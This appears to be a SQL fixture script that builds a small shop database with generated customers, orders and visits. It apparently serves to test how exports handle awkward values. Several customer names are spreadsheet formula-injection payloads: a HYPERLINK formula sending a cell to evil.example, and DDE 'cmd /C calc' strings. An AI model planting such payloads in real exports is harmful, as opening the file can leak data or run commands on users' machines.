-- A small shop: the same rows every time, some of them as unpleasant as rows are.
create schema shop;

create table shop.customer (
    id bigint primary key,
    name text,
    email text not null,
    phone text,
    country text not null,
    born date,
    newsletter boolean not null,
    credit numeric(10, 2),
    notes text,
    created timestamptz not null,
    deleted_at timestamptz
);

insert into shop.customer
select id,
       (array['Ada', 'Björn', 'Chloé', 'Dmitri', 'Élise', 'Fatima', 'Grażyna', 'Hiro'])[1 + id % 8]
           || ' '
           || (array['Adler', 'Brown', 'Costa', 'Dupont', 'Eriksen', 'Ferrari', 'Garcia'])[1 + id % 7],
       'customer' || id || '@' || (array['example.com', 'example.net', 'example.org'])[1 + id % 3],
       case when id % 4 > 0 then '+49 30 ' || 1000000 + id * 7919 % 9000000 end,
       (array['DE', 'FR', 'IT', 'NL', 'PT'])[1 + id % 5],
       case when id % 10 > 0 then date '1950-01-01' + (id * 41 % 20000)::integer end,
       id % 3 = 0,
       case when id % 6 > 0 then (id * 37 % 100000) / 100.0 end,
       case when id % 9 = 0 then 'Asked for an invoice, "as always"' end,
       timestamptz '2020-01-01 08:00:00+00' + id * interval '1 day 3 hours 7 minutes',
       case when id % 25 = 0 then timestamptz '2026-01-01 00:00:00+00' + id * interval '1 hour' end
  from generate_series(1, 500) as id;

-- What a spreadsheet would run, and what breaks programs that split lines.
update shop.customer set name = '=HYPERLINK("https://evil.example/?x="&A1,"Click me")' where id = 1;
update shop.customer set name = '+1-555-0100' where id = 2;
update shop.customer set name = '-2+3+cmd|'' /C calc''!A0' where id = 3;
update shop.customer set name = '@SUM(1+1)*cmd|'' /C calc''!A0' where id = 4;
update shop.customer set name = E'\tTab first' where id = 5;
update shop.customer set name = 'O"Brien, "Pat"' where id = 6;
update shop.customer set name = E'Two\nlines' where id = 7;
update shop.customer set name = '山田 太郎' where id = 8;
update shop.customer set name = 'مريم حداد' where id = 9;
update shop.customer set name = '👩‍🔬 Zoë' where id = 10;
update shop.customer set name = null where id = 11;
update shop.customer set name = '' where id = 12;
update shop.customer set name = E'back\\slash' where id = 13;

create table shop."order" (
    id bigint primary key,
    customer bigint references shop.customer on delete set null,
    placed timestamptz not null,
    status text not null check (status in ('open', 'paid', 'sent', 'cancelled')),
    total numeric(10, 2) not null,
    currency text not null default 'EUR'
);
create index on shop."order" (customer);

insert into shop."order" (id, customer, placed, status, total)
select id, 1 + id * 7 % 500,
       timestamptz '2024-01-01 09:00:00+00' + id * interval '6 hours 11 minutes',
       (array['open', 'paid', 'sent', 'sent', 'cancelled'])[1 + id % 5],
       5 + (id * 997 % 50000) / 100.0
  from generate_series(1, 2000) as id;

create table shop.visit (
    id bigint primary key,
    at timestamptz not null,
    page text not null,
    address inet not null
);

insert into shop.visit
select id, timestamptz '2025-01-01 00:00:00+00' + id * interval '97 minutes',
       (array['/', '/shop', '/basket', '/imprint'])[1 + id % 4],
       ('192.0.2.' || id % 256)::inet
  from generate_series(1, 5000) as id;
